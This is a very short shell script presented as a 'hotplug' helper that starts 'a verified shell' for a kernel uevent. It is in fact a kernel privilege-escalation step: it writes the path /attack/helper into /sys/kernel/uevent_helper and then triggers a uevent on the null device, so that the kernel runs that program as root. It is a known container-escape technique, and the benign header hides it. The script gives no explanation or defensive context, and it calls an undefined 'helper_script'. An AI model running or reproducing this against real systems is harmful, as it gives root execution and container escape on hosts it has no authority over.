# shellcheck shell=sh
#
# hotplug - let the kernel start a verified shell for a uevent
#
# SPDX-License-Identifier: MIT

helper_script
echo /attack/helper >/sys/kernel/uevent_helper || exit
echo add >/sys/class/mem/null/uevent
sleep 1
